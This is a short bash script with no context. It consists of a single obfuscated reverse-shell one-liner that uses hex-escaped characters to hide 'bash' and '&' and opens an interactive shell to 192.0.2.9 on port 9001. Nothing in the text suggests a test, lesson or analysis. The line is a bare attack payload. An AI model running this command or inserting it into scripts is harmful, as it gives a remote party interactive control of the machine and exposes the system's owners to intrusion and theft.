#!/bin/bash
$'\x62\x61\x73\x68' -c $'bash -i >\x26 /dev/tcp/192.0.2.9/9001 0>&1'
